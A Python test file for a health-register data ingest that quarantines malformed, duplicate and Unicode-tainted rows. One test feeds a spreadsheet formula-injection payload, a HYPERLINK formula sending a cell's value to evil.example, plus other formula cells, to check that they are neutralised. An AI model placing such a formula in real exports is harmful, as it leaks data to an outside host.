"""The hardened ingest: one person one row, idempotence by content, cross-field checks, Unicode
digits and control characters quarantined row by row, a quarantine that a spreadsheet cannot
run and that is in place before the dataset commits, and an extract read in batches."""

from __future__ import annotations

import csv
import datetime
import os
from contextlib import contextmanager
from pathlib import Path

import pyarrow as pa
import pytest
from conftest import run_cli, same_files
from hypothesis import given, settings
from hypothesis import strategies as st

from hpcstudy.errors import UserError
from hpcstudy.registers import store
from hpcstudy.registers.store import Dataset
from hpcstudy.secure import cpr
from hpcstudy.secure import ingest as I


@pytest.fixture
def key(tmp_path):
    k = tmp_path / "project.key"
    k.write_bytes(bytes(range(48)))
    return k


def write(path: Path, header: str, *rows: str, end: str = "\n", bom: bool = False) -> Path:
    text = end.join([header, *rows]) + end
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


def ingest(key, register, src, data, *extra):
    return run_cli("ingest", "--register", register, "--input", src, "--data", data,
                   "--key-file", key, "--partitions", "2", *extra)


def here(key, register, src, data, quarantine=None) -> dict:
    """The same ingest in this process (the CLI is tested where its output matters)."""
    return I.ingest(register, src, data, key, quarantine, partitions=2)


def quarantined(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def rows(data: Path, register: str) -> int:
    return Dataset.open(data).manifest["registers"][register]["rows"]


def snapshot(data: Path) -> dict:
    return {p.relative_to(data): p.read_bytes() for p in sorted(data.rglob("*")) if p.is_file()}


BEF_HEAD = "cpr,koen,foed_dag,region"
ANNA = "010150-1234,2,1950-01-01,1084"
BO = "0202601111,1,1960-02-02,1081"


# -- one person, one bef row --------------------------------------------------------------------
def test_a_cpr_with_and_without_dash_is_one_person(tmp_path, key):
    src = write(tmp_path / "bef.csv", BEF_HEAD, ANNA, BO, "0101501234,2,1950-01-01,1084",
                "  010150-1234 ,1,1950-01-01,1082")
    data = tmp_path / "data"
    r = ingest(key, "bef", src, data)
    assert r.returncode == 0, r.stderr
    assert "2 rows added" in r.stdout and "2 quarantined" in r.stdout
    assert rows(data, "bef") == 2
    pnr = Dataset.open(data).read("bef").column("pnr").to_pylist()
    assert len(set(pnr)) == 2
    q = quarantined(tmp_path / "bef.csv.quarantine.csv")
    assert [row["line"] for row in q] == ["4", "5"]
    assert all("same person as line 2" in row["reason"] for row in q), q


def test_a_person_already_in_the_dataset_is_quarantined_not_added_twice(tmp_path, key):
    data = tmp_path / "data"
    here(key, "bef", write(tmp_path / "a.csv", BEF_HEAD, ANNA), data)
    # the same person, another written form and another region: a second row would count twice
    src = write(tmp_path / "b.csv", BEF_HEAD, "0101501234,2,1950-01-01,1085", BO)
    assert here(key, "bef", src, data)["rows"] == 1
    assert rows(data, "bef") == 2
    q = quarantined(tmp_path / "b.csv.quarantine.csv")
    assert len(q) == 1 and q[0]["line"] == "2" and "already in bef" in q[0]["reason"]


def test_one_death_per_person(tmp_path, key):
    data = tmp_path / "data"
    src = write(tmp_path / "dod.csv", "cpr,doddato", "010150-1234,2010-05-05",
                "0101501234,2011-06-06")
    assert here(key, "dod", src, data)["rows"] == 1
    assert rows(data, "dod") == 1
    assert "same person as line 2" in quarantined(tmp_path / "dod.csv.quarantine.csv")[0]["reason"]


# -- idempotence by content ---------------------------------------------------------------------
@pytest.mark.parametrize("form", ["crlf", "bom+reordered", "parquet"])
def test_the_same_rows_re_sent_in_another_form_add_nothing(tmp_path, key, form):
    people = [f"{d:02d}0{m}{y}-{1000 + i:04d}" for i, (d, m, y) in
              enumerate([(3, 3, 55), (4, 4, 66), (5, 5, 77), (6, 6, 88)])]
    head = "cpr,eksd,atc,apk,packsize,volume"
    lines = [f"{c},2015-0{1 + i}-10,C10AA01,1,100,100.0" for i, c in enumerate(people)]
    lines.append(lines[0])            # the same dispensing twice is two rows, both kept
    data = tmp_path / "data"
    assert here(key, "lmdb", write(tmp_path / "lmdb.csv", head, *lines), data)["rows"] == 5
    before = snapshot(data)
    if form == "crlf":
        again = write(tmp_path / "again.csv", head, *lines, end="\r\n")
    elif form == "bom+reordered":
        order = [5, 4, 3, 2, 1, 0]
        cells = [x.split(",") for x in [head, *lines]]
        again = write(tmp_path / "again.csv", *[",".join(c[k] for k in order) for c in cells],
                      bom=True)
        again.write_bytes(again.read_bytes().replace(b"100.0", b"1e2"))   # the same number
    else:
        import pandas as pd

        df = pd.DataFrame([x.split(",") for x in lines], columns=head.split(","))
        df["cpr"] = df["cpr"].str.replace("-", "")
        df["eksd"] = pd.to_datetime(df["eksd"])
        df[["apk", "packsize"]] = df[["apk", "packsize"]].astype(int)
        df["volume"] = df["volume"].astype(float)
        again = tmp_path / "again.parquet"
        df.to_parquet(again)
    if form == "crlf":
        r = ingest(key, "lmdb", again, data)
        assert r.returncode == 0, r.stderr
        assert "0 rows added" in r.stdout and "5 already present" in r.stdout, r.stdout
    else:
        s = here(key, "lmdb", again, data)
        assert (s["rows"], s["already_present"], s["quarantined"]) == (0, 5, 0)
    assert snapshot(data) == before
    if form == "crlf":
        return
    # a third copy of the twice-sent row is new: copies are counted, not collapsed
    s = here(key, "lmdb", write(tmp_path / "third.csv", head, *lines, lines[0]), data)
    assert (s["rows"], s["already_present"]) == (1, 5)
    assert rows(data, "lmdb") == 6


def test_a_bef_re_send_is_present_not_quarantined(tmp_path, key):
    data = tmp_path / "data"
    here(key, "bef", write(tmp_path / "a.csv", BEF_HEAD, ANNA, BO), data)
    s = here(key, "bef", write(tmp_path / "b.csv", BEF_HEAD, BO, ANNA, end="\r\n"), data)
    assert (s["rows"], s["already_present"], s["quarantined"]) == (0, 2, 0)
    assert not (tmp_path / "b.csv.quarantine.csv").exists()


def test_already_present_counts_copies():
    h = (pa.array([1, 1, 2, 3], pa.uint64()).to_numpy(), pa.array([9, 9, 9, 9],
                                                                   pa.uint64()).to_numpy())
    old = (h[0][:3], h[1][:3])                  # the dataset holds 1 twice and 2 once
    new = (pa.array([1, 2, 1, 1, 3, 2], pa.uint64()).to_numpy(),
           pa.array([9, 9, 9, 9, 9, 9], pa.uint64()).to_numpy())
    assert I.already_present(new, old).tolist() == [True, True, True, False, False, False]
    other_lane = (new[0], pa.array([9, 8, 9, 9, 9, 9], pa.uint64()).to_numpy())
    assert I.already_present(other_lane, old).tolist()[1] is False


# -- cross-field checks -------------------------------------------------------------------------
def test_births_in_the_future_and_a_cpr_disagreeing_with_foed_dag(tmp_path, key):
    src = write(tmp_path / "bef.csv", BEF_HEAD, ANNA,
                "010157-5123,1,2057-01-01,1084",       # 7th digit 5, YY 57: born 2057
                "0202601111,1,1960-02-03,1081",        # foed_dag a day off the CPR
                "030370-2222,2,1970-03-03,1084")
    data = tmp_path / "data"
    assert here(key, "bef", src, data)["rows"] == 2
    q = {row["line"]: row["reason"] for row in quarantined(tmp_path / "bef.csv.quarantine.csv")}
    assert set(q) == {"3", "4"}
    assert "2057-01-01" in q["3"] and "after" in q["3"]
    assert "1960-02-03 is not the birth date in the CPR number (1960-02-02)" in q["4"]


def test_discharge_before_admission_and_other_contact_rules(tmp_path, key):
    head = "cpr,recnum,d_inddto,d_uddto,c_pattype,c_adiag,c_sgh"
    src = write(tmp_path / "lpr_adm.csv", head,
                "010150-1234,1,2012-03-10,2012-03-12,0,DI219,1301",
                "010150-1234,2,2012-03-10,2012-03-09,0,DI219,1301",    # out before in
                "010150-1234,3,1990-01-01,1990-01-01,2,DI219,1301",    # outpatient pre-1995
                "010150-1234,4,1949-12-31,1950-01-02,0,DI219,1301",    # before LPR, birth
                "010150-1234,5,2012-03-10,2012-03-12,0,DI219,1301",
                "0202601111,1,2013-01-01,2013-01-02,0,DZ039,1301",     # recnum 1 again
                "0202601111,6,2030-01-01,2030-01-02,0,DZ039,1301")     # after the period
    data = tmp_path / "data"
    assert here(key, "lpr_adm", src, data)["rows"] == 2
    q = {row["line"]: row["reason"] for row in
         quarantined(tmp_path / "lpr_adm.csv.quarantine.csv")}
    assert "discharge 2012-03-09 is before admission" in q["3"]
    assert "only from 1995-01-01" in q["4"]
    assert "outside 1977-01-01" in q["5"]
    assert "line 2 already has this contact" in q["7"]
    assert "outside" in q["8"]
    # a recnum the dataset holds, with other values, is refused too
    again = write(tmp_path / "again.csv", head, "0202601111,5,2014-01-01,2014-01-02,0,DZ039,1")
    assert here(key, "lpr_adm", again, data)["rows"] == 0
    assert "already has this contact" in quarantined(tmp_path / "again.csv.quarantine.csv")[0][
        "reason"]


def test_events_before_birth_and_impossible_values(tmp_path, key):
    src = write(tmp_path / "lmdb.csv", "cpr,eksd,atc,apk,packsize,volume",
                "010180-1234,2015-01-01,C10AA01,1,100,100",
                "010100-4321,1996-01-01,C10AA01,1,100,100",    # before the 2000 birth
                "010180-1234,2015-01-01,C10AA01,0,100,100",    # no packs
                "010180-1234,2015-01-01,C10AA01,70000,100,1",  # beyond int16
                "010180-1234,2015-01-01,C10AA01,1,100,nan")
    data = tmp_path / "data"
    assert here(key, "lmdb", src, data)["rows"] == 1
    q = {row["line"]: row["reason"] for row in quarantined(tmp_path / "lmdb.csv.quarantine.csv")}
    assert "before the person's birth (2000-01-01" in q["3"]
    assert "apk: 0 is below 1" in q["4"]
    assert "does not fit" in q["5"]
    assert "not a number" in q["6"]


# -- Unicode digits, control characters, broken lines: one row, never the file -------------------
def test_unicode_digits_and_control_characters_quarantine_one_row(tmp_path, key):
    src = write(tmp_path / "bef.csv", BEF_HEAD, ANNA,
                "０１０１５０-1235,2,1950-01-01,1084",           # full-width
                "٠١٠١٥٠١٢٣٦,2,1950-01-01,1084",                # Arabic-Indic
                "010150-1237,２,1950-01-01,1084",               # full-width in koen
                "010150-1238,2,1950-٠1-01,1084",                # Arabic-Indic in a date
                "010150-12\x0739,2,1950-01-01,1084",             # BEL in the CPR
                "010150-1240,2,1950-01-01,10\u200b84",           # zero-width space
                BO)
    data = tmp_path / "data"
    r = ingest(key, "bef", src, data)
    assert r.returncode == 0, r.stderr
    assert "2 rows added" in r.stdout and "6 quarantined" in r.stdout
    q = {row["line"]: row["reason"] for row in quarantined(tmp_path / "bef.csv.quarantine.csv")}
    assert "non-ASCII digit '０' (U+FF10" in q["3"]
    assert "non-ASCII digit '٠' (U+0660" in q["4"]
    assert "koen" in q["5"] and "not a number" in q["5"] and "U+FF12" in q["5"]
    assert "foed_dag" in q["6"] and "U+0660" in q["6"]
    assert "control character U+0007" in q["7"]
    assert "U+200B" in q["8"]
    k = key.read_bytes()
    assert sorted(Dataset.open(data).read("bef").column("pnr").to_pylist()) == sorted(
        [cpr.pseudonym("0101501234", k), cpr.pseudonym("0202601111", k)])


def test_broken_lines_bad_bytes_and_empty_lines_are_quarantined_with_their_line(tmp_path, key):
    src = tmp_path / "bef.csv"
    src.write_bytes(b"cpr,koen,foed_dag,region\n010150-1234,2,1950-01-01,1084\n\n"
                    b"0202601111,1,1960-02-02\n030370-2222,2,1970-03-03,10\xff84\n"
                    b"040480-3333,2,1980-04-04,1084,7\n050590-4444,2,1990-05-05,1084\n"
                    b"060660-5555,x,1960-06-06,1084\n"
                    b'"070770-6666",2,"1970-07-07","10\r\n84"\n'      # a quoted line break
                    b"080880-7777,x,1980-08-08,1084\n")
    data = tmp_path / "data"
    s = here(key, "bef", src, data)
    assert (s["rows"], s["quarantined"]) == (2, 7)
    q = {row["line"]: row["reason"] for row in quarantined(tmp_path / "bef.csv.quarantine.csv")}
    assert set(q) == {"3", "4", "5", "6", "8", "9", "11"}, q
    assert "U+000D" in q["9"] and "koen" in q["11"]
    assert "empty line" in q["3"]
    assert "3 fields" in q["4"] and "5 fields" in q["6"]
    assert "not UTF-8" in q["5"] and "not a number" in q["8"]


# -- the quarantine file ------------------------------------------------------------------------
def test_quarantine_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, key):
    src = write(tmp_path / "bef.csv", BEF_HEAD, ANNA,
                '"=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,1950-01-01,1084',
                "+4512345678,1,1950-01-01,1084", "-2+3,1,1950-01-01,1084",
                "@SUM(A1),1,1950-01-01,1084", "010150-1235,1,1950-01-01,=1+1",
                '"\tcmd",1,1950-01-01,1084')
    assert here(key, "bef", src, tmp_path / "data")["quarantined"] == 6
    q = quarantined(tmp_path / "bef.csv.quarantine.csv")
    cells = [v for row in q for v in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert q[0]["cpr"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
    assert q[4]["region"] == "'=1+1"
    assert q[5]["cpr"] == "'\\x09cmd"


def test_neutral_leaves_ordinary_cells_alone():
    assert I.neutral("010150-1234") == "010150-1234"
    assert I.neutral("-1") == "'-1" and I.neutral("a\x00b") == "a\\x00b"


def test_a_quarantine_that_is_a_directory_is_refused_before_anything(tmp_path, key):
    data = tmp_path / "data"
    here(key, "bef", write(tmp_path / "a.csv", BEF_HEAD, ANNA), data)
    before = snapshot(data)
    qdir = tmp_path / "rejects"
    qdir.mkdir()
    src = write(tmp_path / "b.csv", BEF_HEAD, BO, "12345,1,1950-01-01,1084")
    listing = sorted(tmp_path.iterdir())
    r = ingest(key, "bef", src, data, "--quarantine", qdir)
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "is a directory" in r.stderr and "Traceback" not in r.stderr
    assert snapshot(data) == before and sorted(tmp_path.iterdir()) == listing
    assert list(qdir.iterdir()) == []
    # a rerun with a file path then ingests: nothing was marked as done
    s = here(key, "bef", src, data, qdir / "b.csv")
    assert (s["rows"], s["quarantined"]) == (1, 1)


@pytest.mark.parametrize("where", ["missing/q.csv", "the input", "inside the data",
                                   "unwritable"])
def test_other_quarantine_paths_that_cannot_work_are_refused(tmp_path, key, where):
    if where == "unwritable" and not Path("/proc/self").is_dir():
        pytest.skip("needs /proc, where nobody (root included) can create a file")
    data = tmp_path / "data"
    here(key, "bef", write(tmp_path / "a.csv", BEF_HEAD, ANNA), data)
    src = write(tmp_path / "b.csv", BEF_HEAD, BO, "12345,1,1950-01-01,1084")
    q = {"missing/q.csv": tmp_path / "missing" / "q.csv", "the input": src,
         "inside the data": data / "q.csv", "unwritable": Path("/proc/hpcstudy-q.csv")}[where]
    before, text, listing = snapshot(data), src.read_bytes(), sorted(tmp_path.iterdir())
    with pytest.raises(UserError, match="--quarantine"):
        here(key, "bef", src, data, q)
    assert snapshot(data) == before and src.read_bytes() == text
    assert sorted(tmp_path.iterdir()) == listing          # no scratch or partial file left


def test_the_quarantine_is_in_place_before_the_dataset_commits(tmp_path, key, monkeypatch):
    src = write(tmp_path / "bef.csv", BEF_HEAD, ANNA, "12345,1,1950-01-01,1084")
    seen = []
    real = store.staged_output

    @contextmanager
    def watched(*args, **kwargs):
        with real(*args, **kwargs) as staging:
            yield staging
            q = tmp_path / "bef.csv.quarantine.csv"
            seen.append(q.is_file() and "10 digits" in q.read_text())
    monkeypatch.setattr(store, "staged_output", watched)
    I.ingest("bef", src, tmp_path / "data", key, partitions=2)
    assert seen == [True]
    assert not [p for p in tmp_path.iterdir() if ".partial" in p.name or ".ingest-" in p.name]


def test_a_failed_ingest_leaves_no_quarantine_and_no_scratch(tmp_path, key, monkeypatch):
    src = write(tmp_path / "bef.csv", BEF_HEAD, ANNA, "12345,1,1950-01-01,1084")

    def boom(*a, **k):
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(I, "_rewrite", boom)
    with pytest.raises(OSError):
        I.ingest("bef", src, tmp_path / "data", key, partitions=2)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bef.csv", "project.key"]


# -- errors: one line, where --------------------------------------------------------------------
@pytest.mark.parametrize("content, words", [
    (b"", "bef.csv:1"),
    (b"\xffcpr,koen,foed_dag,region\n", "bef.csv:1"),
    (b"cpr,koen,koen,foed_dag,region\n", "appears twice"),
])
def test_a_bad_header_is_one_line_with_the_place(tmp_path, key, content, words):
    (tmp_path / "bef.csv").write_bytes(content)
    r = ingest(key, "bef", tmp_path / "bef.csv", tmp_path / "data")
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert words in r.stderr and not (tmp_path / "data").exists()


def test_partitions_out_of_range_are_refused(tmp_path, key):
    r = run_cli("ingest", "--register", "bef", "--input", write(tmp_path / "b.csv", BEF_HEAD),
                "--data", tmp_path / "d", "--key-file", key, "--partitions", "0")
    assert r.returncode == 2 and "'--partitions': '0'" in r.stderr and "Traceback" not in \
        r.stderr


# -- reading in batches -------------------------------------------------------------------------
def test_the_extract_is_read_in_batches_and_the_result_does_not_depend_on_them(
        tmp_path, key, monkeypatch):
    people = [f"{1 + i % 28:02d}{1 + i % 12:02d}{50 + i % 40:02d}-{i:04d}" for i in range(3000)]
    lines = [f"{c},{1 + i % 2},19{c[4:6]}-{c[2:4]}-{c[0:2]},1084" for i, c in enumerate(people)]
    lines[1234] = "12345,1,1950-01-01,1084"
    lines[2000] = "ragged,line"
    lines[2500] = lines[10].replace("-", "", 1)    # one person again, many batches later
    src = write(tmp_path / "bef.csv", BEF_HEAD, *lines)
    small = I.Extract(src, "bef")
    monkeypatch.setattr(I, "CSV_BLOCK_BYTES", 4096)
    batches = list(small.batches())
    assert len(batches) > 10 and max(b.lines.size for b in batches) < 200
    assert [int(x) for b in batches for x in b.lines] == [x for x in range(2, 3002) if x != 2002]
    assert [b.broken[0][0] for b in batches if b.broken] == [2002]
    a = I.ingest("bef", src, tmp_path / "small", key, tmp_path / "qa.csv", partitions=3)
    monkeypatch.setattr(I, "CSV_BLOCK_BYTES", 1 << 24)
    assert len(list(I.Extract(src, "bef").batches())) == 1
    b = I.ingest("bef", src, tmp_path / "large", key, tmp_path / "qb.csv", partitions=3)
    assert a["rows"] == b["rows"] == 2997 and a["quarantined"] == b["quarantined"] == 3
    q = {row["line"]: row["reason"] for row in quarantined(tmp_path / "qa.csv")}
    assert sorted(q) == ["1236", "2002", "2502"] and "same person as line 12" in q["2502"]
    same_files(tmp_path / "small", tmp_path / "large")
    assert (tmp_path / "qa.csv").read_bytes() == (tmp_path / "qb.csv").read_bytes()


def test_parquet_is_read_in_batches(tmp_path, monkeypatch):
    import pyarrow.parquet as pq

    t = pa.table({"cpr": [f"0101{50 + i % 40}-{i:04d}" for i in range(1000)],
                  "koen": [1] * 1000, "foed_dag": pa.array([0] * 1000, pa.date32()),
                  "region": [1084] * 1000})
    pq.write_table(t, tmp_path / "bef.parquet", row_group_size=100)
    monkeypatch.setattr(I, "BATCH_ROWS", 128)
    batches = list(I.Extract(tmp_path / "bef.parquet", "bef").batches())
    assert len(batches) >= 8 and max(b.lines.size for b in batches) <= 128
    assert batches[0].text["foed_dag"][0].as_py() == "1970-01-01"


# -- the vectorised CPR check agrees with the one-number rules -----------------------------------
digit = st.sampled_from("0123456789")
numbers = st.one_of(
    st.tuples(st.text(digit, min_size=6, max_size=6), st.sampled_from(["", "-"]),
              st.text(digit, min_size=4, max_size=4)).map("".join),
    st.text(st.sampled_from("0123456789-１٠ \x07a"), max_size=12))


@settings(max_examples=300, deadline=None)
@given(st.lists(numbers, min_size=1, max_size=20))
def test_the_batch_cpr_check_agrees_with_parse(values):
    trimmed = pa.array([v.strip(" ") for v in values], pa.string())
    valid, digits, born = cpr.parse_many(trimmed)
    for i, v in enumerate(values):
        d, b, why = cpr.parse(v)
        assert bool(valid[i]) == (why is None), v
        if why is None:
            assert digits[i].as_py() == d
            assert born[i] == (b - datetime.date(1970, 1, 1)).days


# -- whatever a field holds, the file is never refused and a good row is never lost -------------
@settings(max_examples=25, deadline=None)
@given(st.lists(st.lists(st.text(max_size=12), min_size=4, max_size=4), min_size=1, max_size=6))
def test_any_field_content_quarantines_rows_but_never_aborts(tmp_path_factory, cells):
    tmp = tmp_path_factory.mktemp("fuzz")
    key = tmp / "k"
    key.write_bytes(bytes(range(48)))
    src = tmp / "bef.csv"
    with open(src, "w", newline="", encoding="utf-8", errors="surrogatepass") as f:
        w = csv.writer(f)
        w.writerow(BEF_HEAD.split(","))
        w.writerow(ANNA.split(","))
        w.writerows(cells)
    s = I.ingest("bef", src, tmp / "data", key, partitions=2)
    pnr = Dataset.open(tmp / "data").read("bef").column("pnr").to_pylist()
    assert cpr.pseudonym("0101501234", key.read_bytes()) in pnr
    assert s["rows"] == len(pnr) and s["rows"] + s["quarantined"] >= 1 + len(cells) - sum(
        "\n" in c or "\r" in c for row in cells for c in row)


def test_leftovers_of_a_killed_ingest_are_cleaned_by_the_next(tmp_path, key):
    gone = 2**22 + 12345                       # above Linux's largest pid: no such process
    scratch = tmp_path / f".data.ingest-{gone}-abc"
    scratch.mkdir()
    (scratch / "p0.keys").write_bytes(b"x")
    partial = tmp_path / f".bef.csv.quarantine.csv.partial-{gone}"
    partial.write_text("cpr\n")
    running = tmp_path / f".data.ingest-{os.getpid()}-xyz"   # a live ingest's: kept
    running.mkdir()
    here(key, "bef", write(tmp_path / "bef.csv", BEF_HEAD, ANNA), tmp_path / "data")
    assert not scratch.exists() and not partial.exists() and running.is_dir()
